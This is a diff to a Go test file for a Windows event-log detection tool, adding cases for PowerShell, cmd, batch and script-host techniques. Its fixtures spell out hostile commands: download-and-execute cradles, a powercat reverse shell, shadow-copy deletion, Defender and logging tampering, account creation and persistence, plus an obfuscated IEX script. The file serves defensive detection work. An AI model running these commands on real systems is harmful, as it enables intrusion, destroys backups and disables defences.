@@ -4,6 +4,7 @@ import (
 	"context"
 	"database/sql"
 	"encoding/json"
+	"fmt"
 	"path/filepath"
 	"strings"
 	"testing"
@@ -72,6 +73,24 @@ func newTimeline(t *testing.T, events []ev) *sql.DB {
 
 func str(v any) string { s, _ := v.(string); return s }
 
+func repeat(e ev, n int) []ev {
+	out := make([]ev, n)
+	for i := range out {
+		out[i] = e
+	}
+	return out
+}
+
+// wshPrefetch is a prefetch run of a script host with the given file list.
+func wshPrefetch(exe string, files ...string) ev {
+	list := make([]any, 0, len(files)+1)
+	list = append(list, `\VOLUME{1}\WINDOWS\SYSTEM32\`+exe)
+	for _, f := range files {
+		list = append(list, f)
+	}
+	return ev{source: "prefetch", process: `\VOLUME{1}\WINDOWS\SYSTEM32\` + exe, data: map[string]any{"executable": exe, "files": list}}
+}
+
 func sysmon1(image, parent, cmd string) ev {
 	return ev{provider: "Microsoft-Windows-Sysmon", eventID: 1, process: image, parent: parent, cmd: cmd}
 }
@@ -91,7 +110,7 @@ func TestAnalyzers(t *testing.T) {
 		name      string
 		events    []ev
 		technique string
-		severity  string // "" when no finding of the technique must appear, "!s" when none of severity s
+		severity  string // "" when no finding of the technique must appear, "!s" when none of severity s or above
 		title     string
 	}{
 		{"encoded command", []ev{sysmon1(ps, expl, `powershell -NoP -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AeAAnACkA`)},
@@ -100,6 +119,28 @@ func TestAnalyzers(t *testing.T) {
 			"T1059.001", "high", "PowerShell download"},
 		{"stealth flags", []ev{security4688(ps, expl, `powershell.exe -nop -w hidden -noni -c "Get-Date"`)},
 			"T1059.001", "medium", "PowerShell started with stealth flags: -nop -w hidden -noni"},
+		{"-ec abbreviation", []ev{security4688(ps, cmd, `powershell.exe -ec VwByAGkAdABlAC0ATwB1AHQAcAB1AHQAIABoAGUAbABsAG8AIAB3AG8AcgBsAGQA`)},
+			"T1059.001", "high", "PowerShell -EncodedCommand"},
+		{"en dash before -encodedcommand", []ev{security4688(ps, cmd, "powershell.exe \u2013EncodedCommand VwByAGkAdABlAC0ATwB1AHQAcAB1AHQAIABoAGUAbABsAG8AIAB3AG8AcgBsAGQA")},
+			"T1059.001", "high", "PowerShell -EncodedCommand"},
+		{"flags abbreviated otherwise", []ev{security4688(ps, expl, `powershell.exe -noninter -execu bypass -Command "Get-Date"`)},
+			"T1059.001", "medium", "PowerShell started with stealth flags: -noni -ep bypass"},
+		{"one stealth flag is quiet", []ev{security4688(ps, expl, `powershell.exe -NoProfile -Command "Get-Service"`)},
+			"T1059.001", "", ""},
+		{"invoke-webrequest to a file", []ev{sysmon1(ps, cmd, `powershell -c "Invoke-WebRequest -Uri http://x/a.exe -OutFile $env:TEMP\a.exe"`)},
+			"T1059.001", "medium", "PowerShell download"},
+		{"bits transfer", []ev{sysmon1(ps, cmd, `powershell Start-BitsTransfer -Source http://x/a -Destination C:\Users\Public\a.exe`)},
+			"T1059.001", "medium", "PowerShell download"},
+		{"script block turns logging off", []ev{{provider: "Microsoft-Windows-PowerShell", eventID: 4104, level: 5, data: map[string]any{"ScriptBlockId": "c", "MessageNumber": "1", "MessageTotal": "1",
+			"ScriptBlockText": `$s['HKEY_LOCAL_MACHINE\Software\Policies\Microsoft\Windows\PowerShell\ScriptBlockLogging']['EnableScriptBlockLogging'] = 0`}}},
+			"T1059.001", "high", "PowerShell script block: logging-bypass"},
+		{"ordinary script block is quiet", []ev{{provider: "Microsoft-Windows-PowerShell", eventID: 4104, level: 5, data: map[string]any{"ScriptBlockId": "d", "MessageNumber": "1", "MessageTotal": "1",
+			"ScriptBlockText": "Get-ChildItem -Path $env:USERPROFILE -Filter *.log | Remove-Item -WhatIf"}}},
+			"T1059.001", "", ""},
+		{"history download cradle", []ev{{source: "history", process: "powershell.exe", cmd: `IEX (iwr http://10.0.0.5/a.ps1 -UseBasicParsing)`}},
+			"T1059.001", "high", "PowerShell download"},
+		{"ordinary history line", []ev{{source: "history", process: "powershell.exe", cmd: `Get-ChildItem C:\Users | Sort-Object Length -Descending`}},
+			"T1059.001", "", ""},
 		{"plain powershell is quiet", []ev{security4688(ps, expl, `powershell.exe -File C:\scripts\backup.ps1`)},
 			"T1059.001", "", ""},
 		{"powercat reverse shell", []ev{security4688(ps, cmd, `powershell  -Exec Bypass ". \"C:\TMP\nc.ps1\";powercat -c www.example.com -p 80 -t 2 -e cmd"`)},
@@ -125,12 +166,42 @@ func TestAnalyzers(t *testing.T) {
 		{"cmd from word", []ev{sysmon1(cmd, `C:\Program Files\Microsoft Office\WINWORD.EXE`, `cmd /c whoami`)},
 			"T1059.003", "high", "cmd.exe started by winword.exe (Office)"},
 		{"cmd from explorer", []ev{sysmon1(cmd, expl, `cmd.exe`)}, "T1059.003", "", ""},
+		{"rare parent against the host's baseline", append(repeat(sysmon1(cmd, expl, `cmd.exe`), 49), sysmon1(cmd, `C:\Program Files\Acme\agent.exe`, `cmd.exe`)),
+			"T1059.003", "low", "cmd.exe started by agent.exe, a rare parent on this host (1 of 50)"},
+		{"no baseline on few starts", append(repeat(sysmon1(cmd, expl, `cmd.exe`), 5), sysmon1(cmd, `C:\Program Files\Acme\agent.exe`, `cmd.exe`)),
+			"T1059.003", "", ""},
+		{"psexec service", []ev{sysmon1(cmd, `C:\Windows\PSEXESVC.exe`, `"cmd.exe" /c systeminfo`)},
+			"T1059.003", "medium", "cmd.exe started by psexesvc.exe (PsExec service: remote execution)"},
+		{"discovery chain", []ev{security4688(cmd, expl, `cmd.exe /c whoami /all & hostname && ipconfig /all | findstr IPv4 & net user`)},
+			"T1059.003", "medium", "cmd.exe /c chains 4 discovery commands"},
+		{"one discovery command is quiet", []ev{security4688(cmd, expl, `cmd.exe /c ipconfig /all`)},
+			"T1059.003", "", ""},
+		{"bitsadmin download", []ev{security4688(cmd, expl, `cmd /c bitsadmin /transfer j http://x/a.exe C:\Users\Public\a.exe`)},
+			"T1059.003", "medium", "cmd.exe /c download"},
+		{"curl download", []ev{security4688(cmd, expl, `cmd /c curl -o C:\Users\Public\a.exe http://x/a.exe`)},
+			"T1059.003", "medium", "cmd.exe /c download"},
+		{"account creation", []ev{security4688(cmd, expl, `cmd /c net user support P@ssw0rd! /add`)},
+			"T1059.003", "high", "cmd.exe /c account-creation"},
+		{"listing users is not creating one", []ev{security4688(cmd, expl, `cmd /c net user`)},
+			"T1059.003", "", ""},
+		{"path change is not dosfuscation", []ev{security4688(cmd, expl, `cmd /c set PATH=%PATH%;C:\bin&& build.cmd`)},
+			"T1059.003", "", ""},
+		{"batch: certutil download", []ev{{source: "batch", process: `C:\Tools\get.bat`, data: map[string]any{"content": "certutil -urlcache -split -f http://x/a.exe a.exe\r\n"}}},
+			"T1059.003", "medium", "Batch file get.bat: download"},
+		{"batch: wmic shadow deletion", []ev{{source: "batch", process: `C:\Tools\x.bat`, data: map[string]any{"content": "wmic shadowcopy delete /nointeractive\r\n"}}},
+			"T1059.003", "high", "Batch file x.bat: shadow-copy-deletion"},
+		{"batch: defender tampering", []ev{{source: "batch", process: `C:\Tools\x.bat`, data: map[string]any{"content": "powershell Set-MpPreference -DisableRealtimeMonitoring $true\r\n"}}},
+			"T1059.003", "high", "Batch file x.bat: security-tool-tampering"},
+		{"batch: run key and task", []ev{{source: "batch", process: `C:\Tools\x.bat`, data: map[string]any{"content": "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v u /d C:\\u.exe /f\r\nschtasks /create /tn u /tr C:\\u.exe /sc onlogon\r\n"}}},
+			"T1059.003", "medium", "Batch file x.bat: run-key, scheduled-task"},
+		{"batch in the recycle bin", []ev{{source: "batch", process: `C:\$Recycle.Bin\S-1-5-21-1\$R1.bat`, data: map[string]any{"content": "@echo off\r\necho hi\r\n"}}},
+			"T1059.003", "low", "Batch file $r1.bat"},
 		{"dosfuscation", []ev{security4688(cmd, expl, `cmd /v:on /c "set a=po^wer^sh^ell&&set b=%a:~0,3%&&call !a! %b:~1,2% %x:~-3,1% ^e^c^h^o"`)},
 			"T1059.003", "medium", ""},
 		{"shadow deletion", []ev{security4688(cmd, expl, `cmd.exe /c vssadmin delete shadows /all /quiet`)},
 			"T1059.003", "high", "cmd.exe /c shadow-copy-deletion"},
 		{"antivirus exclusion", []ev{security4688(cmd, expl, `"cmd.exe" /c REG ADD "HKLM\SOFTWARE\Wow6432Node\Symantec\Symantec Endpoint Protection\AV\Exclusions\Domain Controller" /f`)},
-			"T1059.003", "high", "cmd.exe /c defender-tampering"},
+			"T1059.003", "high", "cmd.exe /c security-tool-tampering"},
 		{"wmiexec output", []ev{security4688(cmd, "", `cmd.exe /Q /c cd \ 1> \\127.0.0.1\ADMIN$\__1619090610.0007844 2>&1`)},
 			"T1059.003", "high", "cmd.exe output redirected to an administrative share (remote execution)"},
 		{"batch in temp with log clearing", []ev{{source: "batch", process: `C:\Users\bob\AppData\Local\Temp\x.bat`, data: map[string]any{"content": "@echo off\r\nwevtutil cl Security\r\n"}}},
@@ -143,10 +214,28 @@ func TestAnalyzers(t *testing.T) {
 			"T1059.005", "medium", "wscript.exe ran a script from a user-writable folder"},
 		{"mshta javascript", []ev{sysmon1(`C:\Windows\System32\mshta.exe`, expl, `mshta.exe javascript:a=GetObject("script:http://x/a.sct").Exec();close()`)},
 			"T1059.007", "high", "mshta.exe ran inline or remote script"},
+		{"system vbscript is only an activity", []ev{sysmon1(`C:\Windows\System32\cscript.exe`, expl, `cscript.exe //nologo C:\Windows\System32\slmgr.vbs /dlv`)},
+			"T1059.005", "!medium", ""},
+		{"vbscript engine in office", []ev{{provider: "Microsoft-Windows-Sysmon", eventID: 7, process: `C:\Program Files\Microsoft Office\WINWORD.EXE`, data: map[string]any{"ImageLoaded": `C:\Windows\System32\vbscript.dll`}}},
+			"T1059.005", "medium", "winword.exe loaded the Basic engine (vbscript.dll)"},
+		{"vbscript engine in its host", []ev{{provider: "Microsoft-Windows-Sysmon", eventID: 7, process: `C:\Windows\System32\wscript.exe`, data: map[string]any{"ImageLoaded": `C:\Windows\System32\vbscript.dll`}}},
+			"T1059.005", "", ""},
+		{"prefetch: vbscript from temp", []ev{wshPrefetch("WSCRIPT.EXE", `\VOLUME{1}\WINDOWS\SYSTEM32\VBSCRIPT.DLL`, `\VOLUME{1}\USERS\BOB\APPDATA\LOCAL\TEMP\A.VBS`)},
+			"T1059.005", "medium", "wscript.exe ran a script from a user-writable folder (prefetch): a.vbs"},
+		{"prefetch: vbscript engine only", []ev{wshPrefetch("CSCRIPT.EXE", `\VOLUME{1}\WINDOWS\SYSTEM32\VBSCRIPT.DLL`)},
+			"T1059.005", "low", "cscript.exe ran VBScript (prefetch)"},
+		{"prefetch: jscript is not vbscript", []ev{wshPrefetch("WSCRIPT.EXE", `\VOLUME{1}\WINDOWS\SYSTEM32\JSCRIPT.DLL`)},
+			"T1059.005", "", ""},
+		{"prefetch: mshta with jscript", []ev{wshPrefetch("MSHTA.EXE", `\VOLUME{1}\WINDOWS\SYSTEM32\JSCRIPT9.DLL`)},
+			"T1059.007", "low", "mshta.exe ran JScript (prefetch)"},
 		{"jscript engine in office", []ev{{provider: "Microsoft-Windows-Sysmon", eventID: 7, process: `C:\Program Files\Microsoft Office\EXCEL.EXE`, data: map[string]any{"ImageLoaded": `C:\Windows\System32\jscript9.dll`}}},
 			"T1059.007", "medium", ""},
 		{"vbs is not jscript", []ev{sysmon1(`C:\Windows\System32\wscript.exe`, expl, `wscript.exe C:\Users\bob\Downloads\invoice.vbs`)},
 			"T1059.007", "", ""},
+		{"first seen", []ev{sysmon1(cmd, expl, "cmd")},
+			"T1059", "informational", "cmd.exe first seen on h"},
+		{"other programs are not interpreters", []ev{{provider: "Microsoft-Windows-Sysmon", eventID: 1, process: `C:\Windows\notepad.exe`, parent: expl, cmd: "notepad", ts: "2024-03-09T23:30:00Z"}},
+			"T1059", "", ""},
 		{"in business hours", []ev{{provider: "Microsoft-Windows-Sysmon", eventID: 1, process: cmd, parent: expl, cmd: "cmd", ts: "2024-03-05T10:30:00Z"}},
 			"T1059", "!low", ""},
 		{"out of hours", []ev{{provider: "Microsoft-Windows-Sysmon", eventID: 1, process: cmd, parent: expl, cmd: "cmd", ts: "2024-03-09T23:30:00Z"}},
@@ -179,9 +268,9 @@ func TestAnalyzers(t *testing.T) {
 			if tt.severity == "" && len(got) > 0 {
 				t.Errorf("false positive: %v", got)
 			}
-			if absent, ok := strings.CutPrefix(tt.severity, "!"); ok {
+			if below, ok := strings.CutPrefix(tt.severity, "!"); ok {
 				for _, g := range got {
-					if strings.HasPrefix(g, absent+":") {
+					if sev, _, _ := strings.Cut(g, ":"); severityRank[sev] >= severityRank[below] {
 						t.Errorf("false positive: %s", g)
 					}
 				}
@@ -191,6 +280,30 @@ func TestAnalyzers(t *testing.T) {
 				t.Errorf("want %s %q, got %v", tt.severity, tt.title, got)
 			}
 		})
+	}
+}
+
+// TestBusinessHoursInTZ: a start at 20:30 UTC on a Tuesday is out of hours
+// in UTC and in hours in New York (15:30).
+func TestBusinessHoursInTZ(t *testing.T) {
+	ny, err := time.LoadLocation("America/New_York")
+	if err != nil {
+		t.Fatal(err)
+	}
+	evening := []ev{{provider: "Microsoft-Windows-Sysmon", eventID: 1, process: cmd, parent: expl, cmd: "cmd", ts: "2024-03-05T20:30:00Z"}}
+	for _, tt := range []struct {
+		loc  *time.Location
+		want int
+	}{{time.UTC, 1}, {ny, 0}} {
+		db := newTimeline(t, evening)
+		if _, err := Run(context.Background(), db, Options{Location: tt.loc}); err != nil {
+			t.Fatal(err)
+		}
+		var n int
+		db.QueryRow(`SELECT count(*) FROM findings WHERE title LIKE '%outside business hours%'`).Scan(&n)
+		if n != tt.want {
+			t.Errorf("%s: %d out-of-hours findings, want %d", tt.loc, n, tt.want)
+		}
 	}
 }
 
@@ -286,5 +399,74 @@ func TestSameStartRecordedTwice(t *testing.T) {
 				t.Errorf("out-of-hours finding %q, want it to start %q", night, tt.night)
 			}
 		})
+	}
+}
+
+// TestObfuscationScoredOnReassembledScript: a script logged in two 4104
+// parts is scored once, on the whole text, and the finding cites both
+// parts; ordinary code scores low.
+func TestObfuscationScoredOnReassembledScript(t *testing.T) {
+	obfuscated := "&('I'+'EX')(`N`e`W-`O`B`j`E`c`T ('N'+'et.'+'Web'+'Cli'+'ent')).('Dow'+'nload'+'Str'+'ing').Invoke(('ht'+'tp://x'));" +
+		"$c=[char[]](73,69,88);$d=\"{1}{0}\" -f 'ex','I';" +
+		"i`Nv`O`k`E-`E`x`P`R`e`S`s`I`o`N ([char]105+[char]101+[char]120)"
+	half := len(obfuscated) / 2
+	part := func(n int, text string) ev {
+		return ev{provider: "Microsoft-Windows-PowerShell", eventID: 4104, level: 5, data: map[string]any{
+			"ScriptBlockId": "obf", "MessageNumber": fmt.Sprint(n), "MessageTotal": "2", "ScriptBlockText": text}}
+	}
+	db := newTimeline(t, []ev{part(1, obfuscated[:half]), part(2, obfuscated[half:])})
+	if _, err := Run(context.Background(), db, Options{}); err != nil {
+		t.Fatal(err)
+	}
+	var n, score, evidence int
+	var features string
+	db.QueryRow(`SELECT count(*), max(score), max(features) FROM findings WHERE title LIKE 'Obfuscated PowerShell script block%'`).Scan(&n, &score, &features)
+	db.QueryRow(`SELECT count(*) FROM finding_evidence WHERE finding_id = (SELECT id FROM findings WHERE title LIKE 'Obfuscated PowerShell script block%')`).Scan(&evidence)
+	if n != 1 || score < 50 || evidence != 2 {
+		t.Errorf("%d obfuscation findings, score %d, %d evidence rows; want 1, ≥ 50, 2", n, score, evidence)
+	}
+	for _, feature := range []string{"backticks", "concatenations", "format_operators", "char_codes", "case_flip_ratio", "entropy"} {
+		if !strings.Contains(features, `"`+feature+`"`) {
+			t.Errorf("features %s lack %s", features, feature)
+		}
+	}
+	plain := "function Get-Report {\n  param([string]$Path)\n  $items = Get-ChildItem -Path $Path -Recurse -File\n" +
+		"  foreach ($item in $items) {\n    Write-Output (\"{0}: {1} bytes\" -f $item.Name, $item.Length)\n  }\n}\nGet-Report -Path C:\\Data\n"
+	if s, f := obfuscationScore(plain); s >= 40 {
+		t.Errorf("ordinary code scores %d: %v", s, f)
+	}
+}
+
+// TestIncidentChains: an incident ties a command line to the script block
+// of the file it ran, and a script host's process event to its prefetch
+// run.
+func TestIncidentChains(t *testing.T) {
+	wscript := `C:\Windows\System32\wscript.exe`
+	db := newTimeline(t, []ev{
+		{provider: "Microsoft-Windows-Sysmon", eventID: 1, process: ps, parent: cmd, ts: "2024-03-05T10:00:00Z",
+			cmd: `powershell.exe -Exec ByPasS ". C:\TMP\WMIBackdoor.ps1;New-WMIBackdoorTrigger"`},
+		{provider: "Microsoft-Windows-PowerShell", eventID: 4104, level: 3, ts: "2024-03-05T10:00:02Z", data: map[string]any{
+			"ScriptBlockId": "w", "MessageNumber": "1", "MessageTotal": "1", "Path": `C:\TMP\WMIBackdoor.ps1`, "ScriptBlockText": "function New-WMIBackdoorTrigger {}"}},
+		{provider: "Microsoft-Windows-Sysmon", eventID: 1, process: wscript, parent: expl, ts: "2024-03-05T12:00:00.500Z",
+			cmd: `wscript.exe C:\Users\Public\en-US.js`},
+		func() ev {
+			e := wshPrefetch("WSCRIPT.EXE", `\VOLUME{1}\WINDOWS\SYSTEM32\JSCRIPT.DLL`)
+			e.ts = "2024-03-05T12:00:00.497Z"
+			return e
+		}(),
+	})
+	if _, err := Run(context.Background(), db, Options{}); err != nil {
+		t.Fatal(err)
+	}
+	var links string
+	db.QueryRow(`SELECT links FROM incidents WHERE links LIKE '%file:wmibackdoor.ps1%'`).Scan(&links)
+	if links == "" {
+		t.Error("the command line and the script block of the file it ran are not one incident")
+	}
+	var sources string
+	db.QueryRow(`SELECT group_concat(e.source, ',') FROM finding_evidence fe JOIN events e ON e.id = fe.event_id
+		WHERE fe.finding_id = (SELECT id FROM findings WHERE title = 'wscript.exe ran a script from a user-writable folder')`).Scan(&sources)
+	if sources != "evtx,prefetch" {
+		t.Errorf("the wscript finding cites %q, want its Sysmon 1 record and its prefetch run", sources)
 	}
 }
